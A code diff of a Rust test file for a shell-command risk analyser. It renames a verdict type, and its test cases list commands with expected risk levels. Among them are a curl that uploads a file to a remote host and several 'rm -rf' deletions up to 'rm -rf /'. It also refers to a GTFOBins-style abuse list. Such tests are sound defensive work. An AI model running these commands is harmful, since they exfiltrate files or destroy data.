@@ -2,7 +2,7 @@
 
 use placet_policy::shell::analyse;
 
-use crate::support::{Said, preset};
+use crate::support::{ShellVerdict, preset};
 
 /// In the spirit of GTFOBins, for every program the preset knows.
 pub(crate) const ABUSES: &[&str] = &[
@@ -470,7 +470,7 @@ fn secrets_and_destruction_are_held_with_a_risk_to_match() {
         "curl -d @f https://x",
         "bash -c 'rm -rf build'",
     ] {
-        assert_eq!(preset().says(text), Said::Hold("high".to_owned()), "{text}");
+        assert_eq!(preset().says(text), ShellVerdict::Hold("high".to_owned()), "{text}");
     }
     for text in [
         "rm -rf /",
@@ -487,7 +487,7 @@ fn secrets_and_destruction_are_held_with_a_risk_to_match() {
         "xargs rm -rf",
         "rm -rf $DIR",
     ] {
-        assert_eq!(preset().says(text), Said::Hold("critical".to_owned()), "{text}");
+        assert_eq!(preset().says(text), ShellVerdict::Hold("critical".to_owned()), "{text}");
     }
     for text in [
         "cargo check",
@@ -500,7 +500,7 @@ fn secrets_and_destruction_are_held_with_a_risk_to_match() {
         "python3 x.py",
         "for i in 1 2; do echo $i; done",
     ] {
-        assert_eq!(preset().says(text), Said::Hold("medium".to_owned()), "{text}");
+        assert_eq!(preset().says(text), ShellVerdict::Hold("medium".to_owned()), "{text}");
     }
 }
 
